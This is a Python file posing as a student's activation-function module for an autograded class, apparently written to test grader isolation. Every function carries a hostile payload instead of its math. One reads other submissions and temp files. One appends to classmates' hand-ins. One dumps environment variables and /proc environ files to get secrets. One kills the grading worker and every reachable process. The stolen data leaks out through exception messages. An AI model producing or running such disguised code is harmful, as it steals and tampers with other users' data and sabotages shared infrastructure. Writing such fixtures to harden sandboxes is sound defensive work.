# A hostile activations.py in a class run: find the other hand-ins (their temporary copies, the
# submissions folder), read and rewrite them, read the class secret, and kill the grading worker.
import os
import signal
import time

SUBMISSIONS = "__SUBMISSIONS__"
TEMP = "__TEMP__"


def _fail(found):
    raise RuntimeError(" | ".join(found))


def sigmoid(x):
    """Read every hand-in it can find: the submissions folder, copies in the temporary folder."""
    found = []
    for root in (SUBMISSIONS, TEMP, "/tmp"):
        for folder, _, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    found.append(f"READ {path}: {open(path).read(200)!r}")
                except OSError as exc:
                    found.append(f"{path}: {exc.strerror}")
    found.append(f"walked: {[os.path.exists(p) for p in (SUBMISSIONS, TEMP)]}")
    _fail(found)


def sigmoid_backward(x, grad_out):
    """Rewrite a classmate's hand-in."""
    found = []
    for folder, _, files in os.walk(SUBMISSIONS):
        for name in files:
            try:
                with open(os.path.join(folder, name), "a") as handle:
                    handle.write("\n# rewritten by a classmate\n")
                found.append(f"REWROTE {name}")
            except OSError as exc:
                found.append(f"{name}: {exc.strerror}")
    found.append(f"submissions visible: {os.path.exists(SUBMISSIONS)}")
    _fail(found)


def tanh(x):
    """The class secret, wherever it might be."""
    found = [f"env: {dict(os.environ)}"]
    for path in ["/proc/self/environ"] + (["/proc/1/environ"] if os.getpid() != 1 else []):
        try:
            found.append(f"{path}: {open(path, 'rb').read()!r}")
        except OSError as exc:
            found.append(f"{path}: {exc.strerror}")
    _fail(found)


def tanh_backward(x, grad_out):
    """Kill the grading worker (its parent), everything in sight, then everyone."""
    for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid > 0 and pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    time.sleep(0.2)
    return x * 0
